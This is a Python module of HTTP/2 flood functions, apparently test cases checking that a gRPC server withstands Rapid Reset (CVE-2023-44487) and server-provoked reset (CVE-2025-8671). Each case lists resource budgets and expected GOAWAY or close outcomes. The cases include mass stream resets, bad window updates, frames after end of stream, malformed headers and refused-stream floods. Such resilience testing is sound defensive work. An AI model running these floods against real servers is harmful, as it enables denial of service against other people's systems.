"""Streams that are begun to be ended: rapid reset (CVE-2023-44487) and how to make the server reset (CVE-2025-8671)."""
import time

from registry import attack, flood
from wire import (COMPLETE, DATA, END_STREAM, NOWHERE, Connection, Over, call, chat, data, frame, headers, message,
                  request_block, reset, window_update)

BODY = message(chat("mock-b64"))

def reset_stream(stream, path=COMPLETE):
    return headers(stream, request_block(path)) + data(stream, BODY, True) + reset(stream)

def odd(count):
    return range(1, 2 * count, 2)

@attack(cpu=0.1, ends=("goaway 2", "goaway 11", "closed"))
def rapid_reset(target):
    """50,000 at once on one connection."""
    return flood(target, b"".join(map(reset_stream, odd(50_000))))

@attack(cpu=0.1, ends=("goaway 2", "goaway 11", "closed"))
def rapid_reset_nowhere(target):
    """The same on a path that is none."""
    return flood(target, b"".join(reset_stream(each, NOWHERE) for each in odd(50_000)))

@attack(cpu=0.4, ends=("goaway 2", "goaway 11", "closed"))
def rapid_reset_paced(target):
    """200,000 on 4 connections, 16 kB in a millisecond."""
    streams = list(odd(50_000))
    opened = [Connection(target) for _ in range(4)]
    alive = set(opened)
    for at in range(0, len(streams), 100):
        piece = b"".join(map(reset_stream, streams[at:at + 100]))
        for each in list(alive):
            try:
                each.send(piece)
            except Over:
                alive.remove(each)
        if not alive:
            break
        time.sleep(0.001)
    return [each.ending() for each in opened]

@attack(cpu=3.0, memory=40, ends=("goaway 2", "goaway 11", "closed"))
def rapid_reset_again(target):
    """50,000 in all by who comes again after every GOAWAY."""
    wave, endings = b"".join(map(reset_stream, odd(1_500))), []
    for _ in range(33):
        endings += flood(target, wave)
    return endings

def made_to_reset(target, after):
    """after: what makes the server end a stream that is its caller's fault."""
    wave = b"".join(call(each) + after(each) for each in odd(50_000))
    return flood(target, wave)

@attack(cpu=0.2, ends=("goaway 1", "goaway 2", "goaway 11", "closed"))
def made_to_reset_by_no_window(target):
    return made_to_reset(target, lambda stream: window_update(stream, 0))

@attack(cpu=0.2, ends=("goaway 2", "goaway 3", "goaway 11", "closed"))
def made_to_reset_by_much_window(target):
    return made_to_reset(target, lambda stream: window_update(stream, 2**31 - 1))

@attack(cpu=0.2, ends=("goaway 1", "goaway 2", "goaway 5", "goaway 11", "closed"))
def made_to_reset_by_data_after_the_end(target):
    return made_to_reset(target, lambda stream: data(stream, b"x", True))

@attack(cpu=0.2, ends=("goaway 1", "goaway 2", "goaway 5", "goaway 11", "closed"))
def made_to_reset_by_headers_after_the_end(target):
    return made_to_reset(target, lambda stream: headers(stream, request_block(), True))

@attack(cpu=0.2, ends=("goaway 1", "goaway 2", "goaway 11", "closed"))
def made_to_reset_by_bad_headers(target):
    """Upper case in a header's name: the stream is malformed."""
    bad = request_block(more=b"\x00\x01X\x01x")
    return flood(target, b"".join(headers(each, bad, True) for each in odd(50_000)))

@attack(cpu=0.2, ends=("goaway 1", "goaway 2", "goaway 11", "closed"))
def made_to_reset_by_bad_length(target):
    """More data than content-length says."""
    block = request_block(more=b"\x00\x0econtent-length\x011")
    return flood(target, b"".join(headers(each, block) + data(each, BODY, True) for each in odd(50_000)))

@attack(cpu=0.2, ends=("goaway 1", "goaway 5", "goaway 11", "goaway 2", "closed"))
def resets_of_a_closed_stream(target):
    return flood(target, reset(1) * 200_000, begin=call(1) + reset(1))

@attack(cpu=0.05, ends=("goaway 1", "closed"))
def resets_of_idle_streams(target):
    return flood(target, b"".join(map(reset, odd(50_000))))

@attack(cpu=0.3, ends=("open", "goaway 1", "goaway 5", "goaway 11", "closed"))
def data_of_a_closed_stream(target):
    return flood(target, frame(DATA, 0, 1, b"x" * 100) * 50_000, begin=call(1) + reset(1))

@attack(cpu=3.0, memory=60, ends=("goaway 2", "goaway 11", "closed", "open"))
def refused_streams(target):
    """20,000 streams at once where 1,000 are allowed, none of which ends."""
    return flood(target, b"".join(headers(each, request_block()) for each in odd(20_000)))

@attack(cpu=0.4, memory=30, ends=("open", "goaway 11", "goaway 2"))
def wrong_methods(target):
    """20,000 requests that are no gRPC, one after another."""
    block = request_block().replace(b"application/grpc", b"application/json")
    return flood(target, b"".join(headers(each, block, True) for each in odd(20_000)))

assert END_STREAM == 1
